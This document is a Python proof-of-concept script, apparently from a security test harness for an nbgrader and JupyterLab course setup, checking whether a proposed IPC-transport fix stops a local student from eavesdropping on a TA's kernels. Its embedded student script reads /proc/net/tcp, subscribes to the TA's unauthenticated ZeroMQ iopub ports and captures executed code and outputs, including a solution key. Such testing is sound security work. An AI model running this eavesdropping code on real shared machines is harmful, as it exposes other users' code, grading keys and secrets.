"""a06 with the suggested fix: make lab with --KernelManager.transport=ipc (argv). Same TA cell, same local student.
kernels' transport, so every kernel the TA starts (a notebook opened in JupyterLab, the source notebook she
authors and runs) listens on 127.0.0.1 TCP ports. ZeroMQ's PUB socket (iopub) takes any subscriber without a key:
the messages are signed, not secret. A local student (st51u) reads /proc/net/tcp (world-readable, with each socket's
owner uid), subscribes to every listening port of the TA's uid, and receives what the TA's kernels publish:
execute_input (the code the TA runs: the solutions as she runs source/) and its outputs."""
import json, os, subprocess, sys, time, urllib.request, shutil
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import CLONE, chown_r
PORT, TOK = 18951, "ta-token-not-on-command-line"
d = "/tmp/attack51-user-lab"
subprocess.run(["rm", "-rf", d]); os.makedirs(d)
shutil.copy(f"{CLONE}/nbgrader_config.py", d); shutil.copytree(f"{CLONE}/source", f"{d}/source"); shutil.copytree(f"{CLONE}/release", f"{d}/release")
chown_r(d); os.chmod(d, 0o700)
home = "/tmp/attack51-user-home"
env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": home, "LANG": "C.UTF-8", "JUPYTER_TOKEN": TOK,
       "DISTCOURSE_JUDGE": "kernel", "PYTHONSAFEPATH": "1", "DATABASE_URL": "postgresql://ta:secret@localhost/x",
       "AWS_SECRET_ACCESS_KEY": "AKIASECRETCANARY123"}
log = open("/tmp/attack51-user-lab.log", "w")
lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", f"{CLONE}/.venv/bin/jupyter",
                        "lab", "--notebook-dir=.", "--no-browser", f"--port={PORT}", "--ServerApp.port_retries=0", *sys.argv[1:]],
                       cwd=d, env=env, stdout=log, stderr=log)
STUDENT = r'''
import zmq, time, json, os
ports = set()
for f in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(f).read().splitlines()[1:]:
        p = line.split()
        if p[3] == "0A" and int(p[7]) == 65534:
            ports.add(int(p[1].split(":")[1], 16))
print("student uid", os.getuid(), "sees listening ports of uid 65534:", sorted(ports), flush=True)
ctx = zmq.Context()
subs = []
for port in sorted(ports):
    s = ctx.socket(zmq.SUB); s.setsockopt(zmq.SUBSCRIBE, b""); s.connect(f"tcp://127.0.0.1:{port}"); subs.append((port, s))
poller = zmq.Poller()
for _, s in subs: poller.register(s, zmq.POLLIN)
end = time.time() + 25
while time.time() < end:
    for s, _ in poller.poll(500):
        frames = s.recv_multipart()
        port = [p for p, x in subs if x is s][0]
        try:
            i = frames.index(b"<IDS|MSG>")
            hdr, content = json.loads(frames[i + 2]), json.loads(frames[i + 5])
            print(f"port {port}: {hdr['msg_type']}: {json.dumps(content)[:300]}", flush=True)
        except Exception as e:
            print(f"port {port}: {frames[:2]}", flush=True)
'''
open("/tmp/attack51-user-student.py", "w").write(STUDENT); os.chmod("/tmp/attack51-user-student.py", 0o644)
def api(method, path, body=None):
    req = urllib.request.Request(f"http://127.0.0.1:{PORT}{path}", method=method, data=json.dumps(body).encode() if body is not None else None,
                                 headers={"Authorization": f"token {TOK}", "Content-Type": "application/json"})
    return json.loads(urllib.request.urlopen(req, timeout=30).read() or b"null")
try:
    for _ in range(60):
        try:
            api("GET", "/api/status"); break
        except Exception:
            time.sleep(1)
    k = api("POST", "/api/kernels", {"name": "python3"}); print("TA started kernel", k["id"])
    time.sleep(6)
    st = subprocess.Popen(["setpriv", "--reuid", "st51u", "--regid", "st51u", "--clear-groups", f"{CLONE}/.venv/bin/python", "/tmp/attack51-user-student.py"],
                          cwd="/", env={"PATH": "/usr/bin:/bin"}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    time.sleep(4)
    # the TA runs a cell in her kernel (as JupyterLab does, over the server's websocket)
    TA = r'''
import asyncio, json, uuid, sys
from tornado.websocket import websocket_connect
from tornado.httpclient import HTTPRequest
async def main():
    url = "ws://127.0.0.1:%d/api/kernels/%s/channels" % (int(sys.argv[1]), sys.argv[2])
    ws = await websocket_connect(HTTPRequest(url, headers={"Authorization": "token " + sys.argv[3]}))
    code = "import json\nnb = json.load(open('source/ps1_memory/ps1_memory.ipynb'))\nkey = [c['source'] for c in nb['cells'] if 'quiz_q' in c.get('metadata',{}).get('nbgrader',{}).get('grade_id','') and 'SOLUTION' in ''.join(c['source'])]\nprint('TA checks the key:', key)"
    msg = {"header": {"msg_id": uuid.uuid4().hex, "username": "ta", "session": uuid.uuid4().hex, "msg_type": "execute_request", "version": "5.3"},
           "parent_header": {}, "metadata": {}, "content": {"code": code, "silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False}, "channel": "shell"}
    await ws.write_message(json.dumps(msg))
    for _ in range(20):
        m = json.loads(await ws.read_message())
        if m["msg_type"] == "stream": print("TA sees:", m["content"]["text"][:200]); break
asyncio.run(main())
'''
    open("/tmp/attack51-user-ta.py", "w").write(TA); os.chmod("/tmp/attack51-user-ta.py", 0o644)
    r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", f"{CLONE}/.venv/bin/python", "/tmp/attack51-user-ta.py", str(PORT), k["id"], TOK],
                       cwd=d, env=env, capture_output=True, text=True, timeout=60)
    print("TA run:", r.stdout[-400:], r.stderr[-600:])
    out, _ = st.communicate(timeout=60)
    print("STUDENT (uid st51u) received:\n" + out[-4000:])
finally:
    lab.terminate()
    try: lab.wait(20)
    except Exception: lab.kill()
    subprocess.run(["rm", "-rf", d, "/tmp/attack51-user-student.py", "/tmp/attack51-user-ta.py"])
